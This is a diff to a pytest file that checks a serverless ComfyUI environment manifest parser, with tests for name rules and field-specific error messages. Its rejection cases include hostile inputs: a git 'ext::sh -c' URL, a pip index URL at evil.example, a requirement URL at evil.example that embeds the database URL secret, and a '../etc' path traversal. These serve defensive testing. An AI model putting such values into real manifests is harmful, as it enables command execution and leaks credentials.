@@ -10,6 +10,7 @@ import pytest
 
 from comfy_serverless.environments.errors import ManifestInvalid
 from comfy_serverless.environments.manifest import environment_hash, parse_manifest
+from comfy_serverless.environments.requests import MalformedEnvironment, parse_environment
 
 COMMIT = "0123456789abcdef0123456789abcdef01234567"
 SHA = "ab" * 32
@@ -67,9 +68,16 @@ def test_the_hash_is_stable_and_follows_every_field(tmp_path: Path) -> None:
     (lambda text: text.replace("https://git.example.com", "ext::sh -c"), "nodes[0].git",
      "must start with"),
     (lambda text: text.replace('"numpy>=1.25"', '"--index-url=https://evil.example"'),
-     "nodes[0].requirements[0]", "pip options"),
-    (lambda text: text.replace('"numpy>=1.25"', '"numpy>>>1"'), "nodes[0].requirements[0]",
-     "not a requirement"),
+     "nodes[0].requirements[0] of node 'cs-echo'", "pip options"),
+    (lambda text: text.replace('"numpy>=1.25"', '"numpy>>>1"'),
+     "nodes[0].requirements[0] of node 'cs-echo'", "not a requirement"),
+    (lambda text: text.replace('"numpy>=1.25"',
+                               '"foo @ https://evil.example/${COMFY_SERVERLESS_DATABASE_URL}.whl"'),
+     "nodes[0].requirements[0] of node 'cs-echo'", "'${' is not allowed"),
+    (lambda text: text.replace('name = "portraits"', f'name = "{"p" * 65}"'), "name",
+     "at most 64"),
+    (lambda text: text.replace('name = "portraits"', 'name = "-portraits"'), "name",
+     "not an environment name"),
     (lambda text: text.replace(f'sha256 = "{SHA.upper()}"\n', ""), "models[0].sha256",
      "required"),
     (lambda text: text.replace('folder = "checkpoints"', 'folder = "../etc"'),
@@ -90,6 +98,15 @@ def test_a_wrong_manifest_is_refused_naming_the_field(tmp_path: Path, edit: obje
     assert refused.value.field == field
     assert words in str(refused.value)
     assert str(refused.value).startswith(f"manifest: {field}: ")
+
+
+def test_the_environment_name_takes_exactly_the_submits_rule(tmp_path: Path) -> None:
+    for name in ("p" * 64, "a..b", "v1.2_x-y"):
+        manifest = parse_manifest(GOOD.replace('name = "portraits"', f'name = "{name}"'),
+                                  tmp_path)
+        assert parse_environment(manifest.name).name == name
+    with pytest.raises(MalformedEnvironment):
+        parse_environment("p" * 65)
 
 
 def test_the_manifest_of_the_models_how_to_is_valid(tmp_path: Path) -> None:
